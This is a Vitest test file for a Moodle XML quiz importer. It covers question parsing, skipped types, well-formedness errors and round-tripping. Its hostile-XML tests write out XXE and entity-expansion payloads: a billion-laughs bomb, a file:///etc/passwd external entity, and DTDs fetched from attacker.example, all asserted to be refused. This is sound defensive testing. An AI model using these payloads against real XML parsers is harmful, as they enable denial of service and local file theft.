/**
 * Moodle XML import: what Moodle writes comes in, what Factsprint writes comes back exactly, what
 * Factsprint cannot play is named at its line, and hostile XML (entity expansion, external or
 * parameter entities) is refused at once with its own code, never expanded or fetched.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fromMoodleXml, htmlToText, importedToBank, MAX_IMPORT_CHARS, toMoodleXml, type ImportErrorCode, type ImportResult } from '../../../src/core/interop';
import { readXml } from '../../../src/core/interop/xmlReader';
import { bankWith, type Spec } from './helpers';

function errorsOf(result: ImportResult) {
  expect(result.ok).toBe(false);
  return result.ok ? [] : result.errors;
}

/** The one error an input gives: its line and code. */
const only = (text: string) => errorsOf(fromMoodleXml(text)).map((e) => ({ line: e.line, code: e.code }));

/** Refused with this code, and fast: the refusal must not depend on expanding anything. */
function refusedQuickly(text: string, code: ImportErrorCode, withinMs = 100) {
  const start = performance.now();
  const result = fromMoodleXml(text);
  const took = performance.now() - start;
  expect(errorsOf(result).map((e) => e.code)).toEqual([code]);
  expect(took).toBeLessThan(withinMs);
}

const quiz = (...questions: string[]) => ['<?xml version="1.0" encoding="UTF-8"?>', '<quiz>', ...questions, '</quiz>', ''].join('\n');

describe('a quiz as Moodle exports it', () => {
  // Moodle's own export: HTML text in CDATA, a category entry, names, penalties, an embedded file.
  const moodle = quiz(
    '<!-- question: 0  -->',
    '  <question type="category">',
    '    <category><text>$course$/top/Capitals</text></category>',
    '  </question>',
    '  <question type="multichoice">',
    '    <name><text>Capital of France</text></name>',
    '    <questiontext format="html">',
    '      <text><![CDATA[<p dir="ltr" style="text-align: left;">What is the capital of <b>France</b>?<br></p>]]></text>',
    '      <file name="map.png" path="/" encoding="base64">iVBORw0KGgo=</file>',
    '    </questiontext>',
    '    <generalfeedback format="html">',
    '      <text><![CDATA[<p>Paris has been the capital since 508&nbsp;AD.</p>\n<p>Mostly.</p>]]></text>',
    '    </generalfeedback>',
    '    <defaultgrade>1.0000000</defaultgrade>',
    '    <single>true</single>',
    '    <shuffleanswers>true</shuffleanswers>',
    '    <answer fraction="0" format="html"><text><![CDATA[<p>Lyon</p>]]></text><feedback format="html"><text></text></feedback></answer>',
    '    <answer fraction="100.0000000" format="html"><text>&lt;p&gt;Paris&lt;/p&gt;</text></answer>',
    '    <answer fraction="0" format="html"><text><![CDATA[<p>Nice</p>]]></text></answer>',
    '    <answer fraction="0" format="html"><text><![CDATA[<p>Lille &amp; Roubaix</p>]]></text></answer>',
    '  </question>',
    '  <question type="truefalse">',
    '    <questiontext format="moodle_auto_format"><text>Berlin is the capital of Germany.</text></questiontext>',
    '    <answer fraction="100"><text>true</text></answer>',
    '    <answer fraction="0"><text>false</text></answer>',
    '  </question>',
  );

  it('reads multichoice and true/false questions, HTML made plain text, with feedback', () => {
    const r = fromMoodleXml(moodle);
    expect(r.ok ? r.questions : r.errors).toEqual([
      {
        prompt: 'What is the capital of France?',
        options: ['Lyon', 'Paris', 'Nice', 'Lille & Roubaix'],
        answer: 1,
        kind: 'choice',
        feedback: 'Paris has been the capital since 508\u00a0AD.\nMostly.',
        line: 7,
      },
      // Line 25: the feedback's CDATA above holds a line break.
      { prompt: 'Berlin is the capital of Germany.', options: ['True', 'False'], answer: 0, kind: 'truefalse', line: 25 },
    ]);
  });

  it('becomes a draft bank like any other import', () => {
    const r = fromMoodleXml(moodle);
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    const built = importedToBank(r.questions, { id: 'capitals', title: 'Capitals', language: 'en', format: 'xml' });
    expect(built.ok ? built.bank.facts.map((f) => f.extractor) : built.errors).toEqual(['import:xml', 'import:xml']);
  });

  it('reads format="markdown" as the words Moodle renders, and answers inherit it', () => {
    const text = quiz(
      '<question type="multichoice"><questiontext format="markdown"><text>Which *metal* is liquid?\n\nThink of `Hg`.</text></questiontext>',
      '<answer fraction="100"><text>**Mercury**</text></answer><answer fraction="0"><text>Iron</text></answer>',
      '<answer fraction="0" format="plain_text"><text>*Copper*</text></answer><answer fraction="0"><text>Tin</text></answer></question>',
    );
    const r = fromMoodleXml(text);
    expect(r.ok ? r.questions : r.errors).toEqual([{ prompt: 'Which metal is liquid?\nThink of Hg.', options: ['Mercury', 'Iron', '*Copper*', 'Tin'], answer: 0, kind: 'choice', line: 3 }]);
  });

  it('reads CRLF files, a byte-order mark, single quotes and numeric references', () => {
    const text = `\uFEFF${quiz("<question type='truefalse'><questiontext format='plain_text'><text>A &#x1F642; &#169;</text></questiontext>", "<answer fraction='0'><text>true</text></answer><answer fraction='100'><text>false</text></answer></question>")}`.replace(/\n/g, '\r\n');
    const r = fromMoodleXml(text);
    expect(r.ok ? r.questions : r.errors).toEqual([{ prompt: 'A 🙂 ©', options: ['True', 'False'], answer: 1, kind: 'truefalse', line: 3 }]);
  });
});

describe('questions Factsprint cannot play are left out at their line, whole, and the rest come in', () => {
  const mc = (answers: string, extra = '') => `<question type="multichoice"><questiontext format="plain_text"><text>Q?</text></questiontext>${extra}${answers}</question>`;
  const ans = (fraction: string, text: string) => `<answer fraction="${fraction}" format="plain_text"><text>${text}</text></answer>`;

  it('each kind of problem, with its code', () => {
    const text = quiz(
      mc(ans('100', 'a') + ans('0', 'b')),
      '<question type="shortanswer"><questiontext><text>Capital?</text></questiontext></question>',
      '<question type="essay"/>',
      mc(ans('50', 'a') + ans('50', 'b'), '<single>false</single>'),
      mc(ans('50', 'a') + ans('50', 'b')),
      mc(ans('0', 'a') + ans('0', 'b')),
      mc(ans('100', 'a') + ans('100', 'b')),
      mc(ans('100', 'a') + ans('0', 'b') + ans('0', 'c') + ans('0', 'd') + ans('0', 'e') + ans('0', 'f') + ans('0', 'g')),
      mc(ans('100', 'a')),
      mc(ans('100', 'a') + ans('0', '  ')),
      mc(ans('x', 'a') + ans('0', 'b')),
      '<question type="truefalse"><questiontext><text>T?</text></questiontext><answer fraction="100"><text>yes</text></answer></question>',
      '<question><questiontext><text>untyped</text></questiontext></question>',
      '<question type="multichoice"><questiontext><text><![CDATA[<p> </p>]]></text></questiontext></question>',
    );
    const r = fromMoodleXml(text);
    // The one good question comes in; each other is left out at its <question>, with what it is and why.
    expect(r.ok && r.questions.map((q) => [q.line, q.options])).toEqual([[3, ['a', 'b']]]);
    expect(r.ok && r.skipped.map((e) => [e.line, e.kind, e.code, e.params ?? {}])).toEqual([
      [4, 'shortAnswer', 'xmlUnsupportedType', { type: 'shortanswer' }],
      [5, 'essay', 'xmlUnsupportedType', { type: 'essay' }],
      [6, 'multipleAnswer', 'xmlSeveralAllowed', {}],
      [7, 'choice', 'partialCredit', { weight: '50%' }],
      [8, 'choice', 'noRightAnswer', {}],
      [9, 'multipleAnswer', 'severalRight', { n: 2 }],
      [10, 'manyOptions', 'tooManyOptions', { max: 6 }],
      [11, 'choice', 'tooFewOptions', {}],
      [12, 'choice', 'emptyOption', {}],
      [13, 'choice', 'xmlBadFraction', { fraction: 'x' }],
      [14, 'trueFalse', 'xmlTrueFalse', {}],
      [15, 'question', 'xmlNoType', {}],
      [16, 'choice', 'emptyQuestion', {}],
    ]);
    expect(r.ok && r.skipped[6]!.kindParams).toEqual({ n: 7 });
  });

  it('"multiple answers allowed" with one right answer asks what a one-answer question asks, and comes in', () => {
    const r = fromMoodleXml(quiz(mc(ans('0', 'a') + ans('100', 'b') + ans('-50', 'c'), '<single>false</single>')));
    // A penalty on a wrong tick is still partial credit, which Factsprint has no way to give.
    expect(r.ok ? r.skipped.map((e) => e.code) : r.errors.map((e) => e.code)).toEqual(['partialCredit']);
    const plain = fromMoodleXml(quiz(mc(ans('0', 'a') + ans('100', 'b') + ans('0', 'c'), '<single>false</single>')));
    expect(plain.ok && plain.questions.map((q) => [q.options, q.answer])).toEqual([[['a', 'b', 'c'], 1]]);
  });

  it('a file in which nothing can be played is refused, each question named with what it is and why', () => {
    const r = fromMoodleXml(quiz('<question type="category"><category><text>x</text></category></question>', '<question type="essay"/>', '<question type="matching"/>'));
    expect(errorsOf(r).map((e) => [e.line, 'kind' in e ? e.kind : null, e.code])).toEqual([
      [4, 'essay', 'xmlUnsupportedType'],
      [5, 'matching', 'xmlUnsupportedType'],
    ]);
  });

  it('a file with only categories, or nothing at all, holds no questions', () => {
    expect(only(quiz('<question type="category"><category><text>x</text></category></question>'))).toEqual([{ line: 1, code: 'noQuestions' }]);
    expect(only('  \n')).toEqual([{ line: 1, code: 'noQuestions' }]);
  });

  it('a root element that is not <quiz>', () => {
    expect(errorsOf(fromMoodleXml('<?xml version="1.0"?>\n<html><body/></html>'))).toEqual([expect.objectContaining({ line: 2, code: 'xmlNotQuiz', params: { root: '<html>' } })]);
  });
});

describe('XML that is not well-formed: the line and what is wrong', () => {
  it.each([
    ['<quiz>\n<question>\n</answer>\n</quiz>', 3, 'xmlMismatchedTag'],
    ['<quiz>\n<question type="truefalse">\n<questiontext>', 3, 'xmlUnclosedTag'],
    ['<quiz>\n\n<question type="x"', 3, 'xmlUnterminated'],
    ['<quiz>\n<!-- never closed\n</quiz>', 2, 'xmlUnterminated'],
    ['<quiz>\n<text><![CDATA[ never closed</text>\n</quiz>', 2, 'xmlUnterminated'],
    ['<quiz>\n<a b="1" b="2"/>\n</quiz>', 2, 'xmlMalformed'],
    ['<quiz>\nTom & Jerry\n</quiz>', 2, 'xmlMalformed'],
    ['<quiz>\n2 < 3\n</quiz>', 2, 'xmlMalformed'],
    ['<quiz/>\n<quiz/>', 2, 'xmlMalformed'],
    ['<quiz/>\ntext after', 2, 'xmlMalformed'],
    ['<quiz>\n&nbsp;\n</quiz>', 2, 'xmlUnknownEntity'],
    ['<quiz>\n&#0;\n</quiz>', 2, 'xmlBadCharRef'],
    ['<quiz>\n&#xD800;\n</quiz>', 2, 'xmlBadCharRef'],
    ['<quiz>\n&#99999999999;\n</quiz>', 2, 'xmlBadCharRef'],
  ] as const)('%j: line %i, %s', (text, line, code) => {
    expect(only(text)).toEqual([{ line, code }]);
  });

  it('names the tags it found and expected', () => {
    expect(errorsOf(fromMoodleXml('<quiz><a></b></quiz>'))[0]).toMatchObject({ params: { expected: '</a>', found: '</b>' } });
  });

  it('a file nested deeper than any quiz is refused, not recursed into', () => {
    const deep = `<quiz>${'<a>'.repeat(100_000)}`;
    refusedQuickly(deep, 'xmlTooDeep', 500);
  });
});

describe('hostile XML is refused before anything is expanded or fetched', () => {
  const billionLaughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
    ']>',
    '<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext></question></quiz>',
  ].join('\n');

  it('billion laughs: the DOCTYPE is refused, at its line', () => {
    refusedQuickly(billionLaughs, 'xmlDoctype');
    expect(only(billionLaughs)).toEqual([{ line: 2, code: 'xmlDoctype' }]);
  });

  it('an external entity (SYSTEM "file:///etc/passwd") is refused', () => {
    refusedQuickly('<?xml version="1.0"?>\n<!DOCTYPE quiz [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<quiz><question type="truefalse"><questiontext><text>&xxe;</text></questiontext></question></quiz>', 'xmlDoctype');
    refusedQuickly('<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd"><quiz/>', 'xmlDoctype');
  });

  it('a parameter entity is refused', () => {
    refusedQuickly('<?xml version="1.0"?>\n<!DOCTYPE quiz [\n  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n  %remote;\n]>\n<quiz/>', 'xmlDoctype');
  });

  it('however the DOCTYPE is spelled or wherever it stands', () => {
    refusedQuickly('<quiz><!doctype quiz></quiz>', 'xmlDoctype');
    refusedQuickly('<quiz>\n<!ENTITY lol "lol">\n</quiz>', 'xmlEntityDeclaration');
  });

  it('an entity used without a DOCTYPE is unknown, never looked up', () => {
    refusedQuickly('<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext></question></quiz>', 'xmlUnknownEntity');
    refusedQuickly('<quiz>%remote;&xxe;</quiz>', 'xmlUnknownEntity');
  });

  it('a DOCTYPE inside a comment or CDATA is only text', () => {
    const r = fromMoodleXml(quiz('<!-- <!DOCTYPE x> -->', '<question type="truefalse"><questiontext format="plain_text"><text><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]></text></questiontext><answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question>'));
    expect(r.ok && r.questions[0]!.prompt).toBe('<!DOCTYPE x [<!ENTITY a "b">]>');
  });

  it('a file over the size limit is refused before it is read', () => {
    refusedQuickly(`<quiz>${' '.repeat(MAX_IMPORT_CHARS)}</quiz>`, 'tooLarge');
  });

  it('a file just under the limit, full of references, is read in linear time', () => {
    const many = `<quiz>${'&amp;&#65;'.repeat(Math.floor((MAX_IMPORT_CHARS - 20) / 10))}</quiz>`;
    expect(many.length).toBeLessThanOrEqual(MAX_IMPORT_CHARS);
    refusedQuickly(many, 'noQuestions', 2000);
  });
});

describe('the reader', () => {
  it('reads character references with leading zeros, and refuses ones past Unicode', () => {
    const r = readXml('<a>&#0000000065;&#x000000042;</a>');
    expect(r.ok && r.root.children).toEqual(['AB']);
    expect(readXml('<a>&#x110000;</a>')).toMatchObject({ ok: false, error: { code: 'xmlBadCharRef' } });
  });


  it('gives an element tree: attributes by name, text with references and CDATA decoded', () => {
    const r = readXml('<a x="1 &amp;\t2" __proto__="p"><b>t&lt;<![CDATA[<raw>&amp;]]></b><c/></a>');
    if (!r.ok) throw new Error(r.error.message);
    expect(r.root.name).toBe('a');
    expect([...r.root.attrs]).toEqual([['x', '1 & 2'], ['__proto__', 'p']]);
    expect(r.root.children).toEqual([{ name: 'b', attrs: new Map(), children: ['t<', '<raw>&amp;'], line: 1 }, { name: 'c', attrs: new Map(), children: [], line: 1 }]);
  });
});

describe('htmlToText', () => {
  it.each([
    ['<p>One</p>\n<p>Two  <b>bold</b></p>', 'One\nTwo bold'],
    ['a<br>b<br/>c', 'a\nb\nc'],
    ['2 < 3 and 5 > 4', '2 < 3 and 5 > 4'],
    ['x<script>alert(1)</script>y<style>p{}</style>z', 'xyz'],
    ['&lt;b&gt; &amp;amp; &#233;&#x263A; &unknown;', '<b> &amp; é☺ &unknown;'],
    ['<p>unclosed <b', 'unclosed <b'],
    ['<!-- note --><p>kept</p>', 'kept'],
  ])('%j', (html, text) => {
    expect(htmlToText(html)).toBe(text);
  });

  it('stays linear on markup that never closes', () => {
    const start = performance.now();
    htmlToText('<a'.repeat(300_000));
    htmlToText(`${'<script>'.repeat(100_000)}>`);
    expect(performance.now() - start).toBeLessThan(1000);
  });
});

// ---- round trip -------------------------------------------------------------------------------

// Pieces that hit XML's rules and this reader's: markup, references, CDATA ends, line ends a parser
// would normalise, characters XML cannot hold, and scripts far from ASCII.
const PIECES = ['<', '>', '&', '&amp;', '&#13;', ']]>', '<![CDATA[', '<!DOCTYPE x>', '<!ENTITY a "b">', '"', "'", '\r\n', '\r', '\n', '\t', ' ', '\u00a0', 'true', 'false', '<p>', '北京', 'العربية', '🙂', '\u2028', '\u0085', '\u0001', '\uD800', '\uFFFE'];
const text = fc
  .array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: 'grapheme', maxLength: 6 }), fc.string({ unit: 'binary', maxLength: 3 })), { minLength: 1, maxLength: 8 })
  .map((parts) => parts.join(''))
  .filter((s) => s.trim().length > 0);
const choice: fc.Arbitrary<Spec> = fc.record({ prompt: text, options: fc.array(text, { minLength: 4, maxLength: 4 }), answer: fc.integer({ min: 0, max: 3 }), feedback: text });
const trueFalse: fc.Arbitrary<Spec> = fc.record({ prompt: text, answer: fc.integer({ min: 0, max: 1 }), feedback: text });

/** What XML 1.0 can carry of a text: the exporter writes U+FFFD for the rest. */
const xmlKept = (s: string) => s.replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '\uFFFD');

describe('Moodle XML round trip', () => {
  it('fromMoodleXml(toMoodleXml(bank)) gives back every prompt, option, right answer and feedback', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(choice, trueFalse), { minLength: 1, maxLength: 4 }), (specs) => {
        const back = fromMoodleXml(toMoodleXml(bankWith(specs)).output);
        expect(back.ok ? [] : back.errors).toEqual([]);
        if (!back.ok) return;
        expect(back.questions.map((q) => ({ prompt: q.prompt, options: q.options, answer: q.answer, feedback: q.feedback, kind: q.kind }))).toEqual(
          specs.map((s) => ({
            prompt: xmlKept(s.prompt),
            options: (s.options ?? ['True', 'False']).map(xmlKept),
            answer: s.answer,
            feedback: xmlKept(s.feedback),
            kind: s.options ? 'choice' : 'truefalse',
          })),
        );
      }),
      { numRuns: 200 },
    );
    // 200 runs take a second or two; a machine busy with other work has needed more than the default 5 s.
  }, 30_000);
});
